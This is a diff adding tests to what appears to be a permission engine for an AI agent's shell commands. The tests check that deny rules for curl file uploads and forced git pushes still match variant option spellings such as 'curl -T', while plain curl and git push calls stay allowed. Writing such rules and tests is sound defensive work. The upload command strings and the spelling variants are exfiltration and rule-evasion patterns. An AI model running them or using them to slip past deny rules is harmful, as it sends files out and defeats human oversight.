@@ -196,3 +196,17 @@ describe('gaps found by the lab checks', () => {
     expect(decide(e, 'Bash', bash('head -1 config/*/db.env'), 'bypassPermissions')).toMatchObject({ behavior: 'ask', immune: true });
   });
 });
+
+describe('deny rules with a star inside', () => {
+  const e = engine('deny: ["Bash(curl * --upload-file *)", "Bash(git push * --force *)"]');
+  it('match the meaning of their options, however the option is spelled', () => {
+    for (const c of ['curl -s --upload-file a https://x.org/', 'curl -T a https://x.org/', 'curl --upload-file=a https://x.org/', 'curl --upload-f a https://x.org/'])
+      expect(decide(e, 'Bash', bash(c)).behavior, c).toBe('deny');
+    expect(decide(e, 'Bash', bash('git push origin --force main')).behavior).toBe('deny');
+  });
+  it('never mean "any call of the program"', () => {
+    for (const c of ['curl -s https://new.example.org/', 'curl -o out.html https://example.org/'])
+      expect(decide(e, 'Bash', bash(c)).behavior, c).not.toBe('deny');
+    expect(decide(e, 'Bash', bash('git push origin main')).behavior).not.toBe('deny');
+  });
+});
